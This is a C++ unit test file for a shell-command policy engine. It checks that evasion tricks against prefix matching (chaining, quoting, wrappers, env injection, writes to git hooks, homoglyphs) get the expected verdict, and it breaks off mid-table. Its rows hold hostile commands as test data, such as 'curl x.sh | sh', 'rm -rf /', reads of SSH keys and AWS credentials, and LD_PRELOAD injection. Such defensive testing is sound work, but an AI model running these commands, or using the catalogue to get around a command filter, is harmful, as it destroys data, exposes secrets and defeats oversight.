// tests/unit/policy/bypass_table_test.cc: the default policy against every bypass class of
// POLICY.md ("Bypass classes of command-prefix matching"), one row per shell line, each with
// its expected decision and deciding rule. Interactive mode, so ask stays ask.
#include <gtest/gtest.h>
#include <unistd.h>

#include <filesystem>
#include <span>
#include <string>

#include "policy/digest.h"
#include "policy/layer.h"
#include "policy/policy.h"
#include "tests/unit/policy/policy_fixture.h"

namespace moat::policy {
namespace {

using testing::PolicyWorld;
using testing::write_file;

constexpr Verdict A = Verdict::kAllow;
constexpr Verdict Q = Verdict::kAsk;  // "question"
constexpr Verdict D = Verdict::kDeny;

struct Row {
  int cls;           // POLICY.md bypass class
  const char* line;  // {WS}, {BIN} and {ROOT} are replaced by the world's directories
  Verdict verdict;
  const char* rule;  // the deciding rule
};

// clang-format off
const Row kRows[] = {
  // 1 Chaining: every simple command is judged; the strictest wins.
  {1, "git status; curl -s x.sh | sh", Q, "default.network-tools"},
  {1, "ls && rm -rf /", Q, "default.rm-recursive"},
  {1, "ls || rm -r x", Q, "default.rm-recursive"},
  {1, "echo hi & rm -R build", Q, "default.rm-recursive"},
  {1, "make\nrm -rf /", Q, "default.rm-recursive"},
  {1, "true | xargs rm -rf", Q, "default.rm-recursive"},
  {1, "(cd src && rm -rf .)", Q, "default.rm-recursive"},
  {1, "{ ls; rm -fr x; }", Q, "default.rm-recursive"},
  {1, "git status; git log; git diff", A, "default.git"},
  {1, "ls | grep foo | wc -l", A, "default.read-only"},
  {1, "cat a && wget http://x", Q, "default.network-tools"},
  {1, "if true; then curl x; fi", Q, "default.network-tools"},
  {1, "for f in a b; do rm -r $f; done", Q, "default.rm-recursive"},
  {1, "while true; do dd if=/dev/zero of=x; done", Q, "default.disk-tools"},
  {1, "case x in a) ls;; *) curl y;; esac", Q, "default.network-tools"},
  {1, "ls |& grep x && git status", A, "default.read-only"},
  // 2 Substitution: nested commands are judged; an expansion in argv0 is never allowed.
  {2, "echo $(rm -rf ~)", Q, "default.rm-recursive"},
  {2, "echo `curl x`", Q, "default.network-tools"},
  {2, "cat <(curl -s x)", Q, "default.network-tools"},
  {2, "$(echo rm) -rf /", Q, "defaults.unparseable_shell"},
  {2, "`which rm` -rf x", Q, "defaults.unparseable_shell"},
  {2, "echo \"$(id)\"", A, "default.read-only"},
  {2, "ls $(git rev-parse --show-toplevel)", A, "default.git"},
  {2, "x=$(curl x); echo $x", Q, "default.network-tools"},
  {2, "echo $(echo $(rm -r /))", Q, "default.rm-recursive"},
  {2, "diff <(ls a) >(tee out)", A, "default.read-only"},
  {2, "echo $((1+2))", A, "default.read-only"},
  {2, "echo ${x:-$(rm -rf /)}", Q, "defaults.unparseable_shell"},
  {2, "cat <<EOF\n$(curl x)\nEOF", Q, "default.network-tools"},
  {2, "cat <<'EOF'\n$(curl x)\nEOF", A, "default.read-only"},
  {2, "echo \"`rm -rf /`\"", Q, "default.rm-recursive"},
  // 3 Quoting and escapes: matched on parsed words, never raw text.
  {3, "'r''m' -rf /", Q, "default.rm-recursive"},
  {3, "r\\m -rf x", Q, "default.rm-recursive"},
  {3, "\"rm\" -rf x", Q, "default.rm-recursive"},
  {3, "$'\\x72\\x6d' -rf x", Q, "default.rm-recursive"},
  {3, "\"r\"m -r x", Q, "default.rm-recursive"},
  {3, "git 'push' '-f' origin main", Q, "default.git-force-push"},
  {3, "c'u'rl x", Q, "default.network-tools"},
  {3, "\"/bin/\"rm -rf x", Q, "default.rm-recursive"},
  {3, "ls '-la'", A, "default.read-only"},
  {3, "echo 'rm -rf /'", A, "default.read-only"},
  {3, "grep \"curl x\" README", A, "default.read-only"},
  {3, "rm '-'rf x", Q, "default.rm-recursive"},
  // 4 Variables and env prefixes.
  {4, "X=1 rm -rf /", Q, "default.rm-recursive"},
  {4, "$CMD", Q, "defaults.unparseable_shell"},
  {4, "${CMD} -rf x", Q, "defaults.unparseable_shell"},
  {4, "rm${IFS}-rf${IFS}/", Q, "defaults.unparseable_shell"},
  {4, "CMD=rm; $CMD -rf x", Q, "defaults.unparseable_shell"},
  {4, "rm $FLAGS x", Q, "default.rm-recursive"},
  {4, "rm \"$F\"", Q, "default.rm-recursive"},
  {4, "LANG=C ls", A, "default.read-only"},
  {4, "FOO=bar make test", A, "default.build"},
  {4, "X=$(curl x) make", Q, "default.network-tools"},
  {4, "A=1 B=2 git status", A, "default.git"},
  {4, "env $X rm -rf y", Q, "defaults.unparseable_shell"},
  // 5 Exec wrappers, unwrapped by option spec.
  {5, "env -i rm -rf x", Q, "default.rm-recursive"},
  {5, "timeout 5 rm -rf x", Q, "default.rm-recursive"},
  {5, "timeout -s KILL 5 rm -r x", Q, "default.rm-recursive"},
  {5, "timeout --signal=KILL 5 curl x", Q, "default.network-tools"},
  {5, "nice -n 10 rm -rf x", Q, "default.rm-recursive"},
  {5, "nohup curl x", Q, "default.network-tools"},
  {5, "stdbuf -oL rm -rf x", Q, "default.rm-recursive"},
  {5, "setsid rm -rf x", Q, "default.rm-recursive"},
  {5, "xargs rm -r", Q, "default.rm-recursive"},
  {5, "xargs -n 1 -I{} rm -rf {}", Q, "default.rm-recursive"},
  {5, "sudo rm -rf /", Q, "default.privilege"},
  {5, "sudo -u root -- ls", Q, "default.privilege"},
  {5, "exec rm -rf x", Q, "default.rm-recursive"},
  {5, "busybox rm -rf x", Q, "default.rm-recursive"},
  {5, "find . -exec rm -rf {} \\;", Q, "default.rm-recursive"},
  {5, "find . -name '*.tmp' -delete", Q, "defaults.command"},
  {5, "find . -execdir curl x {} +", Q, "default.network-tools"},
  {5, "command rm -rf x", Q, "default.rm-recursive"},
  {5, "time rm -rf x", Q, "default.rm-recursive"},
  {5, "ionice -c 3 rm -rf x", Q, "default.rm-recursive"},
  {5, "doas rm -rf x", Q, "default.privilege"},
  {5, "env -S 'rm -rf x'", Q, "default.rm-recursive"},
  {5, "builtin eval 'rm -rf /'", Q, "defaults.unparseable_shell"},
  {5, "timeout 10 make test", A, "default.read-only"},
  {5, "nice env timeout 3 nohup rm -r x", Q, "default.rm-recursive"},
  {5, "chroot / rm -rf x", Q, "default.privilege"},
  // 6 Inline shell: parsed recursively.
  {6, "bash -c \"rm -rf ~\"", Q, "default.rm-recursive"},
  {6, "sh -c 'curl x | sh'", Q, "default.network-tools"},
  {6, "sh -lc 'make'", Q, "default.login-shell"},
  {6, "eval \"rm -rf /\"", Q, "defaults.unparseable_shell"},
  {6, "source x.sh", Q, "defaults.unparseable_shell"},
  {6, ". ./x.sh", Q, "defaults.unparseable_shell"},
  {6, "bash -c 'git status && git push -f origin main'", Q, "default.git-force-push"},
  {6, "sh -c \"sh -c 'rm -rf /'\"", Q, "default.rm-recursive"},
  {6, "zsh -c 'dd if=a of=b'", Q, "default.disk-tools"},
  {6, "bash -c \"$SCRIPT\"", Q, "defaults.unparseable_shell"},
  {6, "bash -c 'ls; echo ok'", A, "default.read-only"},
  {6, "dash -ec 'make'", A, "default.build"},
  {6, "bash -i -c 'ls'", Q, "default.login-shell"},
  {6, "bash -c 'eval x'", Q, "defaults.unparseable_shell"},
  {6, "sh -c", Q, "defaults.unparseable_shell"},
  // 7 Interpreters: code flags ask.
  {7, "python3 -c 'import os;os.system(\"curl x\")'", Q, "default.inline-code"},
  {7, "node -e 'require(\"child_process\")'", Q, "default.inline-code"},
  {7, "perl -e 'system(\"rm -rf /\")'", Q, "default.inline-code"},
  {7, "ruby -e 'x'", Q, "default.inline-code"},
  {7, "awk 'BEGIN{system(\"rm -rf /\")}'", Q, "defaults.command"},
  {7, "awk '{print $1}' data.txt", A, "default.awk"},
  {7, "awk '{print > \"/etc/x\"}' f", Q, "defaults.command"},
  {7, "python3 -m pytest -q", A, "default.python-tests"},
  {7, "python -c 'print(1)'", Q, "default.inline-code"},
  {7, "python3 -m http.server", Q, "defaults.command"},
  {7, "python3 src/a.py", A, "default.workspace-scripts"},
  {7, "perl -pi -e 's/a/b/' f", Q, "default.inline-code"},
  {7, "node missing.js", Q, "defaults.command"},
  {7, "python3 -Bc 'x'", Q, "default.inline-code"},
  // 8 Aliases, functions and rc files.
  {8, "alias ls='rm -rf /'", Q, "defaults.unparseable_shell"},
  {8, "BASH_ENV=evil.sh bash -c true", Q, "builtin.code-env"},
  {8, "ENV=x sh -c ls", Q, "builtin.code-env"},
  {8, "f() { rm -rf /; }; f", Q, "defaults.unparseable_shell"},
  {8, "function ls { curl x; }", Q, "defaults.unparseable_shell"},
  {8, "bash --rcfile evil.sh -c ls", Q, "default.login-shell"},
  {8, "bash -l run_tests.sh", Q, "default.login-shell"},
  {8, "PROMPT_COMMAND='curl x' bash -i", Q, "builtin.code-env"},
  {8, "trap 'rm -rf /' EXIT", Q, "defaults.unparseable_shell"},
  {8, "LD_PRELOAD=./evil.so ls", Q, "builtin.code-env"},
  {8, "PATH=.:$PATH ls", Q, "builtin.code-env"},
  {8, "hash -p ./evil ls", Q, "defaults.command"},
  {8, "env BASH_ENV=x bash run_tests.sh", Q, "builtin.code-env"},
  // 8 Assignments that change what runs (policy/code_env.cc; every row: CodeEnvTest).
  {8, "PATH=./tools ls", Q, "builtin.code-env"},
  {8, "env PATH=./tools make", Q, "builtin.code-env"},
  {8, "GIT_PAGER='sh -c x' git log", Q, "builtin.code-env"},
  {8, "GIT_SSH_COMMAND='sh -c x' git log", Q, "builtin.code-env"},
  {8, "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=x git log", Q, "builtin.code-env"},
  {8, "NODE_OPTIONS='--require ./x.js' npm test", Q, "builtin.code-env"},
  {8, "PYTHONPATH=src python3 -m pytest", Q, "builtin.code-env"},
  {8, "LD_LIBRARY_PATH=. make", Q, "builtin.code-env"},
  {8, "export LD_PRELOAD=./x.so; ls", Q, "builtin.code-env"},
  {8, "for PATH in ./bin; do ls; done", Q, "builtin.code-env"},
  {8, "GIT_PAGER=cat git log", A, "default.git"},
  {8, "PATH=/usr/bin:$PATH make", A, "default.build"},
  {8, "GIT_EDITOR=true git commit -m x", A, "default.git"},
  // 9 Absolute or relative paths: resolved, deny by basename or real path.
  {9, "/bin/rm -rf x", Q, "default.rm-recursive"},
  {9, "/usr/bin/curl x", Q, "default.network-tools"},
  {9, "./rm -rf x", Q, "default.rm-recursive"},
  {9, "\\rm -rf x", Q, "default.rm-recursive"},
  {9, "./planted-ls", A, "exec.workspace_programs"},  // see OrganisationAsks* below
  {9, "ls", A, "default.read-only"},
  {9, "/usr/bin/env rm -rf x", Q, "default.rm-recursive"},
  {9, "../../bin/rm -rf x", Q, "default.rm-recursive"},
  {9, "{BIN}/ls -la", A, "default.read-only"},
  {9, "./run_tests.sh", A, "exec.workspace_programs"},
  {9, "sh ./run_tests.sh", A, "default.workspace-shell-scripts"},
  {9, "{WS}/run_tests.sh", A, "exec.workspace_programs"},
  {9, "cd src && ../run_tests.sh", Q, "defaults.command"},  // which file depends on the cd
  // 10 Symlinked or copied binaries.
  {10, "./ls x", Q, "default.network-tools"},
  {10, "./git -rf x", Q, "default.rm-recursive"},
  {10, "./make", Q, "default.network-tools"},
  {10, "cp /bin/rm /tmp/x; /tmp/x -rf y", Q, "defaults.command"},
  {10, "{ROOT}/tmp/rm-copy -rf x", A, "exec.workspace_programs"},
  {10, "python3 -c x", Q, "default.inline-code"},
  {10, "python3.11 -c x", Q, "default.inline-code"},
  {10, "sh run_tests.sh", A, "default.workspace-shell-scripts"},
  {10, "awk '{print}' f", A, "default.awk"},
  // Not there yet when the line is judged: a path in a writable root; the exec watch judges the
  // file it names (curl) when it runs (DecideExec.ASymlinkByAnotherNameIsJudgedByTheFileItNames).
  {10, "ln -s {BIN}/curl ./new-ls && ./new-ls x", A, "default.edit-tools"},
  // 11 Flag spellings and order.
  {11, "rm -fr x", Q, "default.rm-recursive"},
  {11, "rm -r -f x", Q, "default.rm-recursive"},
  {11, "rm --recursive --force x", Q, "default.rm-recursive"},
  {11, "rm -Rf x", Q, "default.rm-recursive"},
  {11, "rm -vrf x", Q, "default.rm-recursive"},
  {11, "rm -f -- -r", A, "default.edit-tools"},
  {11, "git push --force origin main", Q, "default.git-force-push"},
  {11, "git push origin main -f", Q, "default.git-force-push"},
  {11, "git push origin +main", Q, "default.git-push-refspec"},
  {11, "git push --force-with-lease", Q, "default.git-force-push"},
  {11, "git push -uf origin x", Q, "default.git-force-push"},
  {11, "git -C sub push -f", Q, "default.git-force-push"},
  {11, "git --no-pager push --mirror", Q, "default.git-force-push"},
  {11, "chmod -R 777 .", Q, "default.chmod-recursive"},
  {11, "chmod --recursive 777 .", Q, "default.chmod-recursive"},
  {11, "git push origin feat/x", Q, "defaults.command"},
  // 11 Abbreviated long options: git and getopt_long take a unique prefix (issue 27 item 23).
  {11, "rm --rec x", Q, "default.rm-recursive"},
  {11, "chmod --recurs 755 .", Q, "default.chmod-recursive"},
  {11, "chown --recu u .", Q, "default.chmod-recursive"},
  {11, "git push --forc origin main", Q, "default.git-force-push"},
  {11, "git push --force-w origin main", Q, "default.git-force-push"},
  {11, "git push --force-with=main:abc origin main", Q, "default.git-force-push"},
  {11, "git push --mirr", Q, "default.git-force-push"},
  {11, "git push --del origin x", Q, "default.git-force-push"},
  {11, "git push --pru origin", Q, "default.git-force-push"},
  {11, "git push --f origin main", Q, "default.git-force-push"},  // ambiguous: counted as each
  {11, "git reset --ha HEAD~1", Q, "default.git-discard"},
  {11, "git clean --fo -d", Q, "default.git-discard"},
  {11, "tar -xf a.tar --to-c=sh", Q, "default.archive-exec"},
  {11, "tar -xf a.tar --use-comp=sh", Q, "default.archive-exec"},
  {11, "tar -xf a.tar --checkpoint-a=exec=sh", Q, "default.archive-exec"},
  {11, "tar -xf a.tar --info-s=x.sh", Q, "default.archive-exec"},
  {11, "tar -xf a.tar --new-vol=x.sh", Q, "default.archive-exec"},
  {11, "sort --out=x names.txt", Q, "defaults.command"},
  {11, "sort --compress-p=sh names.txt", Q, "defaults.command"},
  {11, "awk --fi prog.awk data.txt", Q, "defaults.command"},
  {11, "awk --inc lib prog", Q, "defaults.command"},
  {11, "awk --lo ext prog", Q, "defaults.command"},
  {11, "awk --exe prog.awk", Q, "defaults.command"},
  {11, "git --exec-p=/tmp log", Q, "defaults.command"},
  {11, "git log --outp=/etc/x", Q, "defaults.command"},
  {11, "git diff --ext", Q, "defaults.command"},
  {11, "git grep --open-files", Q, "defaults.command"},
  {11, "git --git-d=/tmp/x status", Q, "defaults.command"},
  {11, "git --work-t=/tmp status", Q, "defaults.command"},
  {11, "git --config-e=core.pager=X status", Q, "defaults.command"},
  {11, "git rebase --exe make main", Q, "defaults.command"},
  {11, "git apply --unsafe x.diff", Q, "defaults.command"},
  {11, "git log --upload-p=x", Q, "defaults.command"},
  {11, "git log --receive-p=x", Q, "defaults.command"},
  {11, "npm install --glob typescript", Q, "defaults.command"},
  {11, "npm install --loc=global typescript", Q, "defaults.command"},
  // What the abbreviation rule leaves alone: whole options, and programs that take none.
  {11, "git log --oneline -n 5", A, "default.git"},
  {11, "git push --force origin main", Q, "default.git-force-push"},
  {11, "npm install --no-audit", A, "default.dependencies"},
  // 12 Redirection and operand writes.
  {12, "echo x >> ~/.bashrc", Q, "defaults.write"},
  {12, "echo x > .git/hooks/pre-commit", D, "default.protected-meta"},
  {12, "cat x > .git/config", D, "default.protected-meta"},
  {12, "ls > out.txt", A, "default.read-only"},
  {12, "tee ~/.profile < x", Q, "defaults.write"},
  {12, "dd if=x of=/etc/passwd", Q, "default.disk-tools"},
  {12, "echo x > /dev/null", A, "default.read-only"},
  {12, "make 2>/dev/null", A, "default.build"},
  {12, "echo key > .env", D, "default.secrets"},
  {12, "echo > .moat/policy.toml", D, "default.protected-meta"},
  {12, "cp x .git/hooks/post-checkout", D, "default.protected-meta"},
  {12, "mv .git/hooks/pre-push /tmp/x", D, "default.protected-meta"},
  {12, "sed -i 's/a/b/' .git/config", D, "default.protected-meta"},
  {12, "echo x > $OUT", Q, "default.secrets"},
  {12, "echo x > src/new.py", A, "default.read-only"},
  {12, "echo x >| /etc/hosts", Q, "defaults.write"},
  {12, "echo x &> .git/config", D, "default.protected-meta"},
  {12, "cat > ~/.ssh/authorized_keys", D, "default.secrets"},
  {12, "cd .git && echo x > config", D, "default.protected-meta"},
  {12, "ls 2>>/var/log/outside.log", Q, "defaults.write"},
  {12, "sed -i 's/x/y/' src/*.py", A, "default.edit-tools"},
  {12, "touch .git/hooks/*", D, "default.protected-meta"},
  // 12 Input redirections are reads of their file and meet the path rules.
  {12, "grep -c . < ~/.ssh/id_ed25519", D, "default.secrets"},
  {12, "wc -l 0< ~/.aws/credentials", D, "default.secrets"},
  {12, "cat <> server.pem", D, "default.secrets"},
  {12, "while read l; do echo $l; done < .env", D, "default.secrets"},
  {12, "{ cat; } < /etc/shadow", D, "default.secrets"},
  {12, "ls; sort 3< certs/x.pem", D, "default.secrets"},
  {12, "cd ~/.ssh && grep x < id_rsa", D, "default.secrets"},
  {12, "CDPATH=~ cd .ssh; cat < id_rsa", D, "default.secrets"},  // cd searched CDPATH: not known where
  {12, "export CDPATH=$HOME; cd .aws && grep x < credentials", D, "default.secrets"},
  {12, "cat < /proc/self/root/home/moat-policy-test-nobody/.ssh/id_rsa", D, "default.secrets"},  // /proc/self/root is /
  {12, "cat < /proc/1/root/home/moat-policy-test-nobody/.aws/credentials", D, "default.secrets"},
  {12, "echo x > /proc/thread-self/root{WS}/.git/config", D, "default.protected-meta"},
  {12, "grep -c . < src/a.py", A, "default.read-only"},
  {12, "cat <<< ~/.ssh/id_rsa", A, "default.read-only"},   // a here-string is text
  {12, "cat <<'EOF'\n~/.ssh/id_rsa\nEOF", A, "default.read-only"},
  {12, "while read l; do echo $l; done < <(ls)", A, "default.read-only"},
  {12, "cat < $F", Q, "default.secrets"},  // which file is not known: .env may be below the cwd
  // 12 Writes named by options and operands (policy/write_targets.cc).
  {12, "sort -o .git/config names.txt", D, "default.protected-meta"},
  {12, "sort -u --output=.env names.txt", D, "default.secrets"},
  {12, "sort -rn -o out.txt names.txt", Q, "defaults.command"},
  {12, "cp -t .git/hooks evil.sh", D, "default.protected-meta"},
  {12, "cp --target-directory=.git/hooks evil.sh", D, "default.protected-meta"},
  {12, "cp secrets/.env .", D, "default.secrets"},
  {12, "cp leaked.pem src", D, "default.secrets"},
  {12, "cp src/a.py src/b.py build/", A, "default.edit-tools"},
  {12, "mv -t .git/hooks x", D, "default.protected-meta"},
  {12, "install -m 755 evil .git/hooks/pre-commit", D, "default.protected-meta"},
  {12, "install -d .moat/x", D, "default.protected-meta"},
  {12, "install -m 0644 src/a.py build/a.py", A, "default.edit-tools"},
  {12, "ln -s /tmp/evil .git/hooks/post-merge", D, "default.protected-meta"},
  {12, "ln -sf -t .git/hooks /tmp/evil", D, "default.protected-meta"},
  {12, "dd if=x of=.git/config", D, "default.protected-meta"},
  {12, "tar -cf .git/config src", D, "default.protected-meta"},
  {12, "tar cf .moat/x.tar src", D, "default.protected-meta"},
  {12, "tar -czf out.tgz src", Q, "defaults.command"},
  {12, "patch -o .git/config < fix.diff", D, "default.protected-meta"},
  {12, "patch .git/hooks/pre-commit fix.diff", D, "default.protected-meta"},
  {12, "patch -d .git -r config < x.diff", D, "default.protected-meta"},
  {12, "sed -n 'w .git/hooks/pre-commit' src/a.py", D, "default.protected-meta"},
  {12, "sed 's/a/b/w .git/config' src/a.py", D, "default.protected-meta"},
  {12, "sed -e 's/a/b/' -e '/x/w .env' src/a.py", D, "default.secrets"},
  {12, "sed -i.bak 's/a/b/' .git/config", D, "default.protected-meta"},
  {12, "sed -ni 's/a/b/p' .git/config", D, "default.protected-meta"},
  {12, "sed '1e id' src/a.py", Q, "defaults.unparseable_shell"},
  {12, "sed 's/.*/id/e' src/a.py", Q, "defaults.unparseable_shell"},
  {12, "sed -f edit.sed src/a.py", Q, "defaults.unparseable_shell"},
  {12, "sed \"s/$OLD/new/\" src/a.py", Q, "defaults.unparseable_shell"},
  {12, "sed -n '/^def /p; $=' src/a.py", A, "default.edit-tools"},
  {12, "sed -n 's/x/y/w /dev/stdout' src/a.py", A, "default.edit-tools"},
  {12, "git -C .git/hooks init", D, "default.protected-meta"},
  {12, "git clone https://example.com/x.git .git/hooks", D, "default.protected-meta"},
  {12, "git diff --output=.git/config", D, "default.protected-meta"},
  {12, "git format-patch -o .git/hooks HEAD~1", Q, "default.secrets"},  // a .env or *.pem may land there
  {12, "git -C src commit -m wip", A, "default.git"},
  {12, "git -C .git/hooks status", A, "default.git"},
  // 13 An allowed tool that runs code.
  {13, "git -c core.pager='sh -c x' log", Q, "defaults.command"},
  {13, "git log --exec-path=/tmp", Q, "defaults.command"},
  {13, "git diff --ext-diff", Q, "defaults.command"},
  {13, "npm test", A, "default.build-subcommands"},
  {13, "make", A, "default.build"},
  {13, "ssh h cmd", Q, "default.network-tools"},
  {13, "docker run x", Q, "defaults.command"},
  {13, "git grep -O foo", Q, "defaults.command"},
  {13, "git rebase -x 'make' main", Q, "defaults.command"},
  {13, "GIT_EXTERNAL_DIFF=x git diff", Q, "builtin.code-env"},
  {13, "git config core.hooksPath /tmp/h", Q, "defaults.command"},
  {13, "cargo test", A, "default.build-subcommands"},
  {13, "tar -xf a.tar --to-command=sh", Q, "default.archive-exec"},
  {13, "git diff --output=/etc/x", Q, "defaults.command"},
  {13, "npm publish", Q, "defaults.command"},
  // 14 TOCTOU: files the sandbox can change are never allowed by name (pins: PinnedProgram*).
  {14, "./run_tests.sh --fast", A, "exec.workspace_programs"},
  {14, "{ROOT}/tmp/rm-copy", A, "exec.workspace_programs"},
  {14, "./planted-ls -la", A, "exec.workspace_programs"},
  {14, "sh ./missing.sh", Q, "defaults.command"},
  // 15 Lexical tricks.
  {15, "ls\r -la", Q, "defaults.unparseable_shell"},
  {15, "rm\xc2\xa0-rf /", Q, "defaults.unparseable_shell"},
  {15, "\xef\xbd\x92\xef\xbd\x8d -rf x", Q, "defaults.unparseable_shell"},
  {15, "ls\x01", Q, "defaults.unparseable_shell"},
  {15, "ls -- -rf", A, "default.read-only"},
  {15, "echo caf\xc3\xa9", A, "default.read-only"},
  {15, "git push \xe2\x80\x94" "force", Q, "defaults.command"},
  {15, "rm -rf x\n", Q, "default.rm-recursive"},
  {15, "ls;;rm -rf x", Q, "defaults.unparseable_shell"},
  {15, "ls\t-la", A, "default.read-only"},
  {15, "rm -rf x # comment", Q, "default.rm-recursive"},
  {15, "ls # ; rm -rf /", A, "default.read-only"},
  {15, "r\xcc\x81m -rf x", Q, "defaults.unparseable_shell"},
  {15, "{LONG}", Q, "defaults.unparseable_shell"},
};
// clang-format on

// Each row's line, judged in `cwd`, gets the row's decision and deciding rule.
void expect_rows(const Policy& p, std::span<const Row> rows, const std::string& cwd) {
  for (const Row& row : rows) {
    SCOPED_TRACE(row.line);
    Decision d = p.decide_command(row.line, cwd);
    EXPECT_EQ(verdict_name(d.verdict), std::string(verdict_name(row.verdict)))
        << d.reason << "\n"
        << d.detail().dump(1);
    EXPECT_EQ(d.deciding.id, row.rule) << d.reason;
  }
}

// A world with no default policy and `text` as its only (user) layer.
std::unique_ptr<Policy> load_only(PolicyWorld& w, const std::string& text) {
  w.options.use_builtin_default = false;
  write_file(w.options.user_dir + "/u.toml", text);
  return w.load();
}

class BypassTable : public ::testing::Test {
 protected:
  void SetUp() override {
    for (const char* p :
         {"mkfs.ext4", "su", "docker-absent-on-purpose", "install", "unzip", "patch", "rsync"})
      w_.add_program(p);
    std::filesystem::remove(w_.bin + "/docker-absent-on-purpose");
    namespace fs = std::filesystem;
    // Planted in the workspace by "sandboxed code": a binary named like an allowed tool,
    // and symlinks to dangerous programs under harmless names.
    write_file(w_.workspace + "/planted-ls", "#!/bin/sh\n", 0755);
    fs::create_symlink(w_.bin + "/curl", w_.workspace + "/ls");
    fs::create_symlink(w_.bin + "/rm", w_.workspace + "/git");
    fs::create_symlink(w_.bin + "/curl", w_.workspace + "/make");
    fs::create_directories(w_.root + "/tmp");
    write_file(w_.root + "/tmp/rm-copy", "#!/bin/sh\n", 0755);
    policy_ = w_.load();
    ASSERT_TRUE(policy_);
  }

  std::string expand(std::string line) const {
    if (line == "{LONG}") {
      line = "ls";
      for (int i = 0; i < 5000; ++i) line += " a";
      return line;
    }
    for (auto [key, value] : {std::pair<std::string, std::string>{"{WS}", w_.workspace},
                              {"{BIN}", w_.bin},
                              {"{ROOT}", w_.root}}) {
      for (auto pos = line.find(key); pos != std::string::npos; pos = line.find(key))
        line.replace(pos, key.size(), value);
    }
    return line;
  }

  PolicyWorld w_;
  std::unique_ptr<Policy> policy_;
};

TEST_F(BypassTable, EveryRowGetsItsDecisionAndDecidingRule) {
  int per_class[16] = {};
  for (const Row& row : kRows) {
    std::string line = expand(row.line);
    SCOPED_TRACE("class " + std::to_string(row.cls) + ": " + row.line);
    Decision d = policy_->decide_command(line, w_.workspace);
    EXPECT_EQ(verdict_name(d.verdict), std::string(verdict_name(row.verdict)))
        << d.reason << "\n"
        << d.detail().dump(1);
    EXPECT_EQ(d.deciding.id, row.rule) << d.reason << "\n" << d.detail().dump(1);
    ++per_class[row.cls];
  }
  EXPECT_GE(std::size(kRows), 150u);
  for (int c = 1; c <= 15; ++c) EXPECT_GE(per_class[c], 4) << "class " << c << " has too few rows";
}

TEST_F(BypassTable, HeadlessTurnsEveryAskIntoDenyAndKeepsTheRule) {
  w_.options.headless = true;
  auto headless = w_.load();
  for (const Row& row : kRows) {
    std::string line = expand(row.line);
    SCOPED_TRACE(row.line);
    Decision d = headless->decide_command(line, w_.workspace);
    EXPECT_EQ(d.verdict, row.verdict == Q ? D : row.verdict);
    EXPECT_EQ(d.deciding.id, row.rule);
  }
}

// A file in a writable root runs by default ([exec] workspace_programs, issue 25: the sandbox
// contains it; it can do nothing `sh ./run_tests.sh` could not). An organisation that wants
// planted and built programs asked about says so, and then every such row asks, named by the
// setting, while the rows about name rules keep their rule (the same rules, now its layer's).
TEST_F(BypassTable, OrganisationAsksForEveryPlantedProgramWhenItsLayerSaysSo) {
  std::string text(builtin_default_policy_text());
  const std::string from = "workspace_programs = \"allow\"";
  ASSERT_NE(text.find(from), std::string::npos);
  text.replace(text.find(from), from.size(), "workspace_programs = \"ask\"");
  if (!w_.set_system_layer(text)) GTEST_SKIP() << "a system layer needs a root-owned directory";
  auto org = w_.load();
  ASSERT_TRUE(org);
  int planted = 0;
  for (const Row& row : kRows) {
    SCOPED_TRACE(row.line);
    // Allowed by default with the setting among its votes: a program in a writable root.
    const Decision by_default = policy_->decide_command(expand(row.line), w_.workspace);
    const bool is_planted =
        row.verdict == A &&
        std::any_of(by_default.matched.begin(), by_default.matched.end(),
                    [](const RuleRef& m) { return m.id == "exec.workspace_programs"; });
    planted += is_planted;
    Decision d = org->decide_command(expand(row.line), w_.workspace);
    EXPECT_EQ(verdict_name(d.verdict), std::string(verdict_name(is_planted ? Q : row.verdict)))
        << d.reason;
    EXPECT_EQ(d.deciding.id, is_planted ? "exec.workspace_programs" : row.rule) << d.reason;
    EXPECT_EQ(d.deciding.layer,
              std::string(row.rule).rfind("builtin.", 0) == 0 ? "builtin" : "system");
  }
  EXPECT_GE(planted, 8);
}

TEST_F(BypassTable, DecidingRuleIsAlwaysAmongTheMatched) {
  for (const Row& row : kRows) {
    Decision d = policy_->decide_command(expand(row.line), w_.workspace);
    bool found = false;
    for (const auto& m : d.matched)
      found = found || (m.id == d.deciding.id && m.line == d.deciding.line);
    EXPECT_TRUE(found) << row.line;
  }
}

// Class 12 for commands that write somewhere below a directory (tar -x, unzip -d, patch
// without a file, rsync): with the commands allowed, the path rules decide, and a deny
// rule that may cover an unknown path below becomes a question.
TEST(WriteTargets, ExtractionsAreJudgedByEveryPathBelowTheirDirectory) {
  PolicyWorld w;
  for (const char* p : {"unzip", "patch", "rsync"}) w.add_program(p);
  auto p = load_only(w,
                     "schema = 1\ndefaults = { command = \"ask\", write = \"ask\" }\n"
                     "[[command]]\nid = \"u.tools\"\ndecision = \"allow\"\nprogram = [\"tar\", "
                     "\"unzip\", \"patch\", \"rsync\", \"git\"]\n"
                     "[[path]]\nid = \"u.ws\"\ndecision = \"allow\"\naccess = [\"write\"]\npaths = "
                     "[\"$WORKSPACE/**\"]\n"
                     "[[path]]\nid = \"u.deploy\"\ndecision = \"deny\"\naccess = "
                     "[\"write\"]\npaths = [\"deploy/**\"]\n");
  ASSERT_TRUE(p);
  const Row rows[] = {
      {12, "tar -xf a.tar -C deploy", Q, "u.deploy"},
      {12, "tar -xf a.tar --directory=deploy/sub", Q, "u.deploy"},
      {12, "tar -xf a.tar -C src", A, "u.tools"},
      {12, "tar -xf a.tar", Q, "u.deploy"},
      {12, "tar xf a.tar -C /etc", Q, "defaults.write"},
      {12, "tar -xPf a.tar -C src", Q, "u.deploy"},  // absolute member names can reach deploy/
      {12, "tar -tf a.tar", A, "u.tools"},
      {12, "tar -xOf a.tar", A, "u.tools"},
      {12, "unzip -q x.zip -d deploy", Q, "u.deploy"},
      {12, "unzip -o x.zip -d src", A, "u.tools"},
      {12, "unzip -l x.zip", A, "u.tools"},
      {12, "patch -p1 < fix.diff", Q, "u.deploy"},
      {12, "patch -d src -p1 < fix.diff", A, "u.tools"},
      {12, "patch deploy/app.conf fix.diff", D, "u.deploy"},
      {12, "patch -o src/out.c src/in.c fix.diff", A, "u.tools"},
      {12, "rsync -a src/ deploy/", Q, "u.deploy"},
      {12, "rsync -a src/ host:deploy/", A, "u.tools"},
      {12, "rsync -a --remove-source-files deploy/x src/", D, "u.deploy"},
      {12, "git -C deploy checkout main", D, "u.deploy"},
      {12, "git -C deploy log", A, "u.tools"},
      {12, "git clone https://example.com/deploy.git", D, "u.deploy"},
      {12, "cd deploy && git init", D, "u.deploy"},
